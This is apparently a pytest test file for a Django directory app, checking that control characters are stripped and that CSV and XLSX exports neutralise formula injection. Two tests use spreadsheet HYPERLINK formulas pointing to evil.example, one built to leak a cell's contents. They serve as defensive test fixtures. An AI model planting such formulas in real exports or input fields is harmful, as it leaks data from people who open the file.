"""Probe items 2 and 3: control characters at the edge, and the one safe export writer."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client
from openpyxl import load_workbook

from corridor.core import exports
from corridor.core.hygiene import clean_text
from corridor.directory.imports import _cell_text
from corridor.directory.models import Organisation
from corridor.directory.search import reindex_organisations
from tests import factories

pytestmark = pytest.mark.django_db


def _formulas(content: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(content))
    return [
        c.coordinate
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]


def test_clean_text_drops_control_characters_and_lone_surrogates():
    assert clean_text("Hoa\x00Sen\x01\x1f\x7f\x85") == "HoaSen"
    assert clean_text("a\ud800b") == "ab"
    assert clean_text("line 1\nline 2\tx") == "line 1\nline 2\tx"
    assert clean_text("line 1\nline 2", multiline=False) == "line 1 line 2"
    assert clean_text("Tra\u0300ng") == "Tràng"  # NFC


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_safe_text_neutralises_every_formula_start(start):
    assert exports.safe_text(start + "1+1").startswith("'")


def test_xlsx_writer_survives_illegal_characters_and_writes_no_formula():
    headers = ["name", "n"]
    rows = [
        ["Hoa\x00Sen\x01", 3],
        ['=HYPERLINK("http://evil.example","x")', None],
        ["a\ud800", 1.5],
    ]
    response = exports.xlsx_response("t.xlsx", headers, rows)
    assert response["Content-Disposition"] == 'attachment; filename="t.xlsx"'
    assert not _formulas(response.content)
    ws = load_workbook(io.BytesIO(response.content)).active
    assert [c.value for c in ws[2]] == ["HoaSen", 3]
    assert ws["A3"].value.startswith("'=HYPERLINK")
    assert ws["B4"].value == 1.5


def test_csv_writer_escapes_formulas():
    response = exports.csv_response("t.csv", ["a"], [["=1+1"], ["-2"], ["ok"]])
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert list(csv.reader(io.StringIO(text))) == [["a"], ["'=1+1"], ["'-2"], ["ok"]]


def test_control_character_through_the_edit_form_is_stripped_and_exports_still_work(
    sme, sme_owner, staff_user
):
    from corridor.directory.forms import OrganisationForm

    form = OrganisationForm(instance=sme)
    data = {k: v for k, v in form.initial.items() if v is not None and not isinstance(v, list)}
    data.update({"name": "Hoa\x01Sen", "country": sme.country_id, "kind": sme.kind})
    bound = OrganisationForm(data, instance=sme)
    bound.is_valid()
    assert bound.cleaned_data.get("name") == "HoaSen"
    # Even a control character written straight into the database does not break the export.
    # (\x01: PostgreSQL itself refuses \x00 in text.)
    Organisation.objects.filter(pk=sme.pk).update(name="Hoa\x01Sen", is_published=True)
    reindex_organisations([sme.pk])
    staff = Client()
    staff.force_login(staff_user)
    for path in ("/directory/export.xlsx", "/matching/export.xlsx"):
        r = staff.get(path)
        assert r.status_code == 200, path
        load_workbook(io.BytesIO(r.content))


def test_matching_export_writes_a_formula_title_as_text(staff_user):
    buyer = factories.OrganisationFactory(kind="buyer")
    title = '=HYPERLINK("http://evil.example/?leak="&A2,"Click")'
    factories.SourcingRequestFactory(buyer=buyer, title=title)
    staff = Client()
    staff.force_login(staff_user)
    r = staff.get("/matching/export.xlsx")
    assert r.status_code == 200
    assert not _formulas(r.content)
    wb = load_workbook(io.BytesIO(r.content))
    values = [c.value for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert "'" + title in values


def test_import_cells_are_cleaned():
    assert _cell_text("Gốm\x00 Bát\x0bTràng\ud800 ") == "Gốm BátTràng"
